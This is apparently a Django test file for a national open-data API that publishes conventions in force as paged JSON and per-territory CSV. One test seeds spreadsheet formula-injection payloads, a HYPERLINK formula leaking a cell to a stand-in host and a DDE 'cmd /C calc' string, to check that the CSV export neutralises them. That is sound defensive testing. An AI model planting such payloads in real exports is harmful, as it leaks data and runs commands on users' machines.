"""The open data at national scale: the JSON of the conventions in force comes a page at a time
(the API's page size rules) with a constant number of queries per page, the CSV one territory at
a time, and the territories to ask for are listed."""

import csv
import io

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext

from conventions.models import Party, PartyRole, Status
from tests.conventions.conftest import add_deliberations
from tests.factories import (
    ConventionFactory,
    EpciFactory,
    EpciMembershipFactory,
    OrganisationFactory,
    ServiceFactory,
)

pytestmark = pytest.mark.django_db

JSON = "/api/v1/open-data/conventions.json"
CSV = "/api/v1/open-data/conventions.csv"
TERRITORIES = "/api/v1/open-data/territories.json"


def in_force_conventions(count, epci=None):
    """``count`` conventions in force of one EPCI (a new one unless given), each with the EPCI
    and a commune as parties, a service and two deliberations."""
    epci = epci or EpciFactory()
    for _ in range(count):
        commune = OrganisationFactory()
        EpciMembershipFactory(member=commune, epci=epci)
        convention = ConventionFactory(territory=epci, status=Status.IN_FORCE)
        Party.objects.create(convention=convention, organisation=epci, role=PartyRole.PROVIDER)
        Party.objects.create(
            convention=convention, organisation=commune, role=PartyRole.BENEFICIARY
        )
        service = ServiceFactory(provider=epci)
        convention.services.create(service=service, unit_type=service.unit_type)
        add_deliberations(convention, [epci, commune])
    return epci


@pytest.fixture(autouse=True)
def fresh_throttle():
    # The anonymous rate (60 an hour, counted in the cache) is not what these tests count.
    cache.clear()
    yield
    cache.clear()


def test_the_national_json_gives_at_most_a_page_with_a_link_to_the_next(client):
    in_force_conventions(30)
    in_force_conventions(26)
    body = client.get(JSON).json()
    assert body["count"] == 56
    assert len(body["results"]) == 50  # the API's page size (mutualisation.rest.Pagination)
    assert body["previous"] is None
    assert body["next"].endswith(f"{JSON}?page=2")
    second = client.get(body["next"]).json()
    assert len(second["results"]) == 6
    assert second["next"] is None
    references = [row["reference"] for row in body["results"] + second["results"]]
    assert references == sorted(references)
    assert len(set(references)) == 56


def test_a_page_is_at_most_500_conventions_whatever_is_asked(client):
    in_force_conventions(3)
    body = client.get(f"{JSON}?page_size=2").json()
    assert len(body["results"]) == 2
    assert "page_size=2" in body["next"]
    assert "page=2" in body["next"]
    from mutualisation.rest import Pagination

    assert Pagination.max_page_size == 500


def queries_of_a_page(client, url):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


def test_a_pages_queries_do_not_grow_with_the_number_of_conventions(client):
    first = in_force_conventions(2)
    small = queries_of_a_page(client, f"{JSON}?page_size=5")
    small_territory = queries_of_a_page(client, f"{JSON}?territory={first.siren}")
    small_csv = queries_of_a_page(client, f"{CSV}?territory={first.siren}")
    in_force_conventions(8)
    in_force_conventions(6, epci=first)
    assert queries_of_a_page(client, f"{JSON}?page_size=5") == small
    assert queries_of_a_page(client, f"{JSON}?territory={first.siren}") == small_territory
    assert queries_of_a_page(client, f"{CSV}?territory={first.siren}") == small_csv
    assert small <= 6  # count, page, parties, services and their services, deliberations


def test_the_csv_without_territory_is_refused_in_french_with_where_to_find_them(client):
    in_force_conventions(2)
    response = client.get(CSV)
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "invalid"
    [message] = body["fields"]["territory"]
    assert "obligatoire" in message
    assert TERRITORIES in message


def test_the_csv_of_one_territory_lists_its_conventions_in_force(client):
    first = in_force_conventions(3)
    in_force_conventions(2)
    response = client.get(f"{CSV}?territory={first.siren}")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode()), delimiter=";"))
    assert len(rows) == 3
    assert {row["territory_siren"] for row in rows} == {first.siren}


def test_the_territories_with_conventions_in_force_are_listed_with_their_count(client):
    first = in_force_conventions(3)
    second = in_force_conventions(1)
    ConventionFactory(territory=EpciFactory())  # a draft only: not published
    with CaptureQueriesContext(connection) as queries:
        body = client.get(TERRITORIES).json()
    assert body == sorted(
        [
            {
                "siren": epci.siren,
                "name": epci.name,
                "conventions": count,
                "json": f"http://testserver{JSON}?territory={epci.siren}",
                "csv": f"http://testserver{CSV}?territory={epci.siren}",
            }
            for epci, count in ((first, 3), (second, 1))
        ],
        key=lambda row: row["siren"],
    )
    assert len(queries) == 1


def test_the_public_csv_neutralises_a_cell_a_spreadsheet_would_run_as_a_formula(client):
    """Anyone downloads this file and opens it in a spreadsheet: a title, a party's or a
    service's name starting with = + - @ is written after a quote, as in the finance exports."""
    from conventions.models import Convention

    epci = in_force_conventions(1)
    convention = Convention.objects.get(territory=epci)
    Convention.objects.filter(pk=convention.pk).update(
        title='=HYPERLINK("https://exemple.invalid/?x="&A1,"Voir")'
    )
    epci.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    epci.save()
    response = client.get(f"{CSV}?territory={epci.siren}")
    [row] = list(csv.DictReader(io.StringIO(response.content.decode()), delimiter=";"))
    assert row["title"] == '\'=HYPERLINK("https://exemple.invalid/?x="&A1,"Voir")'
    assert row["territory"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_the_public_data_lists_only_the_parties_and_services_the_signed_acts_made(client):
    """An avenant not signed yet is a project: the commune it would bring in and the service it
    would add are not published as those of the convention in force; a commune that left by a
    signed avenant in effect is no longer listed."""
    from datetime import date

    from conventions.models import Amendment, Convention

    epci = in_force_conventions(1)
    convention = Convention.objects.get(territory=epci)
    joining = OrganisationFactory(name="Commune candidate")
    draft = Amendment.objects.create(
        convention=convention, number=1, object="Entrée", effective_from=date(2020, 1, 1)
    )
    Party.objects.create(
        convention=convention, organisation=joining, role=PartyRole.BENEFICIARY, joined_by=draft
    )
    extra = ServiceFactory(provider=epci, name="Service en projet")
    convention.services.create(service=extra, unit_type=extra.unit_type, added_by=draft)
    leaving = Party.objects.get(convention=convention, role=PartyRole.BENEFICIARY, joined_by=None)
    signed = Amendment.objects.create(
        convention=convention,
        number=2,
        object="Sortie",
        effective_from=date(2021, 1, 1),
        status=Amendment.AmendmentStatus.SIGNED,
    )
    Party.objects.filter(pk=leaving.pk).update(left_by=signed)

    [row] = client.get(f"{JSON}?territory={epci.siren}").json()["results"]
    names = {party["name"] for party in row["parties"]}
    assert names == {epci.name}
    assert "Service en projet" not in {service["name"] for service in row["services"]}
    text = client.get(f"{CSV}?territory={epci.siren}").content.decode()
    assert "Commune candidate" not in text
    assert "Service en projet" not in text
    assert leaving.organisation.name not in text.split("\r\n")[1].split(";")[8]


def test_the_anonymous_limit_holds_whatever_forwarded_for_a_client_writes():
    """The address the API counts is REMOTE_ADDR, or behind the configured proxies the hop they
    appended (MUTUALIS_PROXY_COUNT): a client writing another X-Forwarded-For on each request
    is still counted as one (60 an hour). Before, each new header was a new client."""
    from django.test import Client

    answers = [
        Client(
            REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR=f"10.1.{n // 250}.{n % 250}, 203.0.113.5"
        )
        .get(TERRITORIES)
        .status_code
        for n in range(61)
    ]
    assert answers[:60] == [200] * 60
    assert answers[60] == 429
